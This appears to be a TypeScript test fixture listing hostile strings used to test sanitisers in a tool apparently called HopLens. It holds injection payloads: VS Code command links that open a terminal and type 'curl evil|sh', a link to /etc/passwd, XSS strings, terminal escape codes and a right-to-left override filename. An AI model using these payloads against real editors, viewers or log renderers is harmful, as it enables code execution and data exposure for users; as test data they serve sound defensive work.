// Text an attacker can put into a log line, a request id, a file name, a server's error message
// or an OTLP attribute, aimed at every surface HopLens writes to. Shared by the tests of the
// neutralisers and of the HTML and Markdown builders.
export const HOSTILE: readonly string[] = [
  // A notification renders this as a link that opens a terminal when clicked.
  '[x](command:workbench.action.terminal.new)',
  // The same with arguments: types a shell line into the terminal.
  '[run](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)',
  '[open](https://evil.example/x) [f](file:///etc/passwd "title")',
  '[click](javascript:alert(1))',
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script><a href="command:x">y</a>',
  'a`b``c ```fence',
  '`starts and ends with a backtick`',
  'first line\nsecond line\r\n[x](command:y)',
  '\x1b[31mred\x1b[0m \x1b]0;title\x07 \u009b2J',
  '$(loading~spin) $(alert) icons',
  '<https://evil.example> https://evil.example www.evil.example',
  '*bold* _em_ **strong** ~~gone~~ # heading',
  'cell | split \\| escaped',
  'file\u202eexe.py',
  '" \' & &amp; </code></td></tr></table>',
];

/** A request id as a log line could carry it (the one from the issue). */
export const HOSTILE_RID = '[x](command:workbench.action.terminal.new)';
